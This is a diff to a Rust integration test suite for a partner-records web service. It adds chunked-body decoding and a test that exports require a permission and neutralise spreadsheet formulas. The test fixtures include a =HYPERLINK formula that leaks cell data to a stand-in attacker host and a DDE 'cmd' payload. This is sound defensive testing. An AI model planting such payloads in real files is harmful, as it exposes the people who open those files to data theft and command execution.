@@ -147,8 +147,18 @@ impl<'a> Api<'a> {
             .iter()
             .map(|(k, v)| (k.as_str(), v.as_str()))
             .collect();
-        common::http_bytes(self.server.http_port, method, path, &headers, body)
-            .expect("HTTP request failed")
+        let (status, head, body) =
+            common::http_bytes(self.server.http_port, method, path, &headers, body)
+                .expect("HTTP request failed");
+        let body = if head
+            .to_ascii_lowercase()
+            .contains("transfer-encoding: chunked")
+        {
+            dechunk(&body)
+        } else {
+            body
+        };
+        (status, head, body)
     }
 
     fn call(&self, method: &str, path: &str, body: Option<Value>) -> (u16, Value) {
@@ -177,6 +187,27 @@ impl<'a> Api<'a> {
         let (got, v) = self.call(method, path, body);
         assert_eq!(got, status, "{method} {path}: {v}");
         assert_eq!(v["field"], field, "{method} {path}: {v}");
+    }
+}
+
+/// A chunked body's data (a streamed answer, as a CSV export is); panics unless the last
+/// chunk came, so a cut-off answer fails the test.
+fn dechunk(mut body: &[u8]) -> Vec<u8> {
+    let mut out = Vec::new();
+    loop {
+        let end = body
+            .windows(2)
+            .position(|w| w == b"\r\n")
+            .expect("a chunk size line");
+        let line = std::str::from_utf8(&body[..end]).unwrap();
+        let size = usize::from_str_radix(line.split(';').next().unwrap().trim(), 16).unwrap();
+        body = &body[end + 2..];
+        if size == 0 {
+            return out;
+        }
+        out.extend_from_slice(&body[..size]);
+        assert_eq!(&body[size..size + 2], b"\r\n", "a chunk's end");
+        body = &body[size + 2..];
     }
 }
 
@@ -1439,7 +1470,7 @@ fn import_and_export_keep_to_the_rules() {
             &admin,
             json!({"name": "Секрет", "latin": "secret", "kind": "text", "in_table": true}),
         );
-        create_user(&admin, "op", json!({"contacts": true}));
+        create_user(&admin, "op", json!({"contacts": true, "reports": true}));
         admin.ok(
             "POST",
             "/api/v1/groups",
@@ -2468,6 +2499,105 @@ fn an_import_checks_the_right_before_it_reads_the_body() {
         assert_eq!(
             (status, report["imported"].as_u64()),
             (200, Some(1)),
+            "{report}"
+        );
+    });
+}
+
+#[test]
+fn exports_need_a_right_are_streamed_and_never_run() {
+    on_both_backends(|server, backend| {
+        let admin = Api::admin(server);
+        create_field(
+            &admin,
+            json!({"name": "Компания", "latin": "title", "kind": "text", "in_table": true}),
+        );
+        create_field(
+            &admin,
+            json!({"name": "Сотрудников", "latin": "staff", "kind": "number", "in_table": true}),
+        );
+        create_user(&admin, "reader", json!({"contacts": true}));
+        create_user(&admin, "analyst", json!({"reports": true}));
+        admin.ok(
+            "POST",
+            "/api/v1/groups",
+            Some(json!({"name": "all", "members": ["reader", "analyst"], "access": {"title": "view", "staff": "view"}})),
+        );
+        let list = admin.ok(
+            "POST",
+            "/api/v1/lists",
+            Some(json!({"name": "L", "items": [{"name": "один", "position": 1}]})),
+        );
+        // 1,200 cards (three pages of the export), some of them formulas.
+        let mut csv = String::from("title;staff\n");
+        csv.push_str("\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\";-7\n");
+        csv.push_str("@SUM(1+1)*cmd|' /C calc'!A0;\n");
+        for i in 0..1198 {
+            csv.push_str(&format!("Компания {i:04};{i}\n"));
+        }
+        let (status, _, body) =
+            admin.raw("POST", "/api/v1/partners/import?format=csv", csv.as_bytes());
+        assert_eq!(status, 200, "{}", String::from_utf8_lossy(&body));
+        // Without the reports right: neither the table nor a list as a file.
+        let reader = Api::login(server, "reader", "password-1");
+        for path in [
+            "/api/v1/partners/export?format=csv".to_string(),
+            "/api/v1/partners/export?format=xlsx".to_string(),
+            format!("/api/v1/lists/{}/export?format=csv", list["id"]),
+        ] {
+            let (status, _, body) = reader.raw("GET", &path, b"");
+            assert_eq!(
+                status,
+                403,
+                "{backend}: {path}: {}",
+                String::from_utf8_lossy(&body)
+            );
+        }
+        reader.ok("GET", "/api/v1/partners", None);
+        // With it: every row, sent as it is read (chunked, no length announced).
+        let analyst = Api::login(server, "analyst", "password-1");
+        let (status, head, body) =
+            analyst.raw("GET", "/api/v1/partners/export?format=csv&sort=title", b"");
+        assert_eq!(status, 200, "{backend}");
+        let head = head.to_ascii_lowercase();
+        assert!(head.contains("transfer-encoding: chunked"), "{head}");
+        assert!(!head.contains("content-length"), "{head}");
+        let text = String::from_utf8(body).unwrap();
+        let lines: Vec<&str> = text.trim_start_matches('\u{feff}').lines().collect();
+        assert_eq!(lines.len(), 1201, "{backend}");
+        assert_eq!(lines[0], "Компания,Сотрудников");
+        // Formulas as text; numbers, negative ones too, as numbers.
+        assert_eq!(
+            lines[1], "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\",-7",
+            "{backend}"
+        );
+        assert_eq!(lines[2], "'@SUM(1+1)*cmd|' /C calc'!A0,");
+        assert_eq!(lines[3], "Компания 0000,0");
+        assert_eq!(lines[1200], "Компания 1197,1197");
+        // The partners report's CSV is written the same way.
+        let (status, _, body) =
+            analyst.raw("GET", "/api/v1/reports/partners?format=csv&sort=title", b"");
+        assert_eq!(status, 200);
+        let text = String::from_utf8(body).unwrap();
+        assert!(text.contains(",\"'=HYPERLINK("), "{backend}: {text:.300}");
+        assert!(!text.contains(",\"=HYPERLINK("), "{backend}");
+        assert!(text.contains(",'@SUM(1+1)"), "{backend}");
+        // An XLSX holds the same rows (built whole).
+        let (status, head, xlsx) = analyst.raw("GET", "/api/v1/partners/export?format=xlsx", b"");
+        assert_eq!(status, 200);
+        assert!(
+            head.to_ascii_lowercase().contains("content-length"),
+            "{head}"
+        );
+        let (status, _, body) = admin.raw(
+            "POST",
+            "/api/v1/partners/import?format=xlsx&dry_run=true",
+            &xlsx,
+        );
+        let report: Value = serde_json::from_slice(&body).unwrap();
+        assert_eq!(
+            (status, report["rows"].as_u64()),
+            (200, Some(1200)),
             "{report}"
         );
     });
